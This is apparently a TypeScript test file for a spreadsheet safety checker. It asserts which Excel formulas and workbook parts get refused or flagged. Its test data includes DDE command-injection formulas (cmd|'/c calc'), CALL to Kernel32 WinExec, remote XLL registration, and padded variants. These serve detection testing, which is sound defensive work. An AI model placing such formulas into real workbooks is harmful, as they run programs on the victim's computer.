import fc from "fast-check"
import { describe, expect, test } from "vitest"
import { Discoveries } from "../discoveries"
import type { PartListener } from "../preflight/part"
import { Refused } from "../refused"
import { parse } from "../testing/parse"
import { Formulas } from "./formulas"

const excel = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
const escaped = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;")

/** Why a workbook is refused, or the codes of what is noted. */
function judge(content: string): string {
  const discoveries = new Discoveries()
  const formulas = new Formulas(discoveries)
  try {
    parse(`<workbook ${excel}>${content}</workbook>`, formulas.listen({ name: "xl/a.xml", type: "" }) as PartListener)
    formulas.finish()
  } catch (error) {
    if (error instanceof Refused) return error.refusal.reason
    throw error
  }
  return discoveries
    .notices(() => undefined)
    .map(({ code }) => code)
    .join(" ")
}
const cell = (formula: string) => judge(`<f>${escaped(formula)}</f>`)

describe("S55 refuses", () => {
  test.each([
    "calc|A!A0",
    "certutil|foo!A1",
    "cmd|'/c calc'!A0",
    "'cmd'|'/c calc'!A0",
    "cmd |'/c calc'!A0",
    "cmd\n|\n'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(cmd|'/c calc'!A0)",
    "IF(1=1,MSEXCEL|'\\..\\a'!A0,0)",
    '"a"&x|y!z',
    "C:\\Windows\\System32\\cmd.exe|'/c calc'!A0",
    "'cmd|/c calc'!A0",
    'DDE("cmd","/c","a")',
    '_xlfn.INITIATE("cmd","/c")',
    'EXECUTE(1,"a")',
  ])("DDE in %s", (formula) => expect(cell(formula)).toBe("dde"))

  test.each([
    'REGISTER.ID("\\\\server\\share\\a.xll","a")',
    'register.id ("a.xll","a")',
    'CALL("Kernel32","WinExec","JFJ","calc",0)',
    'IF(A1,CALL("a","b"),0)',
    'EXEC("calc")',
    "1+FOPEN(A1)",
  ])("a call of a program in %s", (formula) => expect(cell(formula)).toBe("runs_program"))

  test.each<[string, string, string]>([
    ["a name", "dde", "<definedName>cmd|'/c calc'!A0</definedName>"],
    ["a rule's formula", "dde", "<formula1>cmd|a!A0</formula1>"],
    ["a column's formula", "dde", "<calculatedColumnFormula>cmd|a!A0</calculatedColumnFormula>"],
    [
      "an extension's formula",
      "dde",
      '<a:f xmlns:a="http://schemas.microsoft.com/office/excel/2006/main">cmd|a!A0</a:f>',
    ],
    [
      "a chart's formula",
      "dde",
      '<c:f xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart">cmd|a!A0</c:f>',
    ],
    ["a control in VML", "dde", '<x:FmlaLink xmlns:x="urn:schemas-microsoft-com:office:excel">cmd|a!A0</x:FmlaLink>'],
    [
      "a shape's text",
      "dde",
      '<d:sp xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" textlink="cmd|a!A0"/>',
    ],
    ["a DDE link", "dde", '<ddeLink ddeService="cmd" ddeTopic="/c"/>'],
    ["a link to a handler", "unsafe_link", '<f>HYPERLINK("search-ms:a","b")</f>'],
    ["a picture of a file server", "file_server", '<f>_xlfn.IMAGE("\\\\server\\a.png")</f>'],
    ["a macro of another file", "runs_program", "<sp macro=\"'http://example.org/a.xlsm'!Run\"/>"],
    ["a macro of a linked file", "runs_program", '<sp macro="[1]!Run"/>'],
    ["a formula longer than any", "too_complex", `<f>${"1+".repeat(40_000)}1</f>`],
  ])("%s: %s", (_, reason, content) => expect(judge(content)).toBe(reason))

  test("DDE behind any padding and in any pieces", () => {
    const padding = fc.string({ unit: fc.constantFrom(" ", "\t", "\n", "\u00a0", "\u200b"), maxLength: 200 })
    fc.assert(
      fc.property(padding, padding, padding, (before, left, right) => {
        expect(cell(`${before}SUM(1)+cmd${left}|${right}'/c calc'!A0`)).toBe("dde")
      }),
    )
  })
})

describe("notes", () => {
  test.each([
    ['WEBSERVICE("https://example.org/?"&A1)', "external_data"],
    ['FILTERXML(WEBSERVICE(A1),"//a")', "external_data"],
    ['RTD("prog",,"a")', "external_data"],
    ["'\\\\server\\share\\[Book.xlsx]Sheet'!A1", "external_data"],
    ["\\\\server\\share\\[Book.xlsx]Sheet!A1", "external_data"],
    ["'https://example.org/[Book.xlsx]Sheet'!A1", "external_data"],
    ["'C:\\Books\\[Book.xlsx]Sheet'!A1+1", "external_data"],
    ['_xlfn.IMAGE("https://example.org/a.png")', "external_pictures"],
    ['HYPERLINK("\\\\server\\share","a")', "external_links"],
  ])("%s: %s", (formula, code) => expect(cell(formula)).toBe(code))

  test("Power Query", () => {
    expect(judge('<m:DataMashup xmlns:m="http://schemas.microsoft.com/DataMashup">AAAA</m:DataMashup>')).toBe(
      "external_data",
    )
  })
})

describe("passes in silence", () => {
  test.each([
    'SUM(A1:B2)&"cmd|"',
    '{"a|b","c"}',
    "Table1[[#All],[a|b]]",
    "Table1[km/h]*2",
    "LET(x,1,LAMBDA(y,y+x)(2))",
    "R1C1+RC[-1]",
    'HYPERLINK("https://example.org/","a")',
    'HYPERLINK("#Sheet1!A1")',
    "INDEX('My ''quoted'' sheet'!A:A,1)",
    "[1]Sheet1!$A$1",
    "_xlfn.XLOOKUP(A1,B:B,C:C)",
    'TEXT(A1,"dd/mm/yyyy")',
    '"DDE(1)"&A1',
    "ADDED(1)",
  ])("%s", (formula) => expect(cell(formula)).toBe(""))

  test("a sheet with a bar in its name", () => {
    expect(judge(`<sheet name="A|B"/><f>'A|B'!C1+'[1]A|B'!C1</f>`)).toBe("")
    expect(judge(`<f>'A|B'!C1</f><sheet name="a|b"/>`)).toBe("")
  })

  test("the macro of a button whose project is gone", () => {
    expect(judge('<sp macro="[0]!Button1_Click"/><sp macro=""/><sp macro="Button1"/>')).toBe("")
  })

  test("a fraction of Word and a guide of a drawing, which are no formulas", () => {
    expect(
      judge('<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:t>P(A|B)</m:t></m:f>'),
    ).toBe("")
    expect(judge('<a:gd xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" fmla="x|y"/>')).toBe("")
  })

  test("any text is a verdict", () => {
    fc.assert(fc.property(fc.string({ maxLength: 100 }), (text) => void cell(text.replace(/[^ -~]/g, ""))))
  })
})
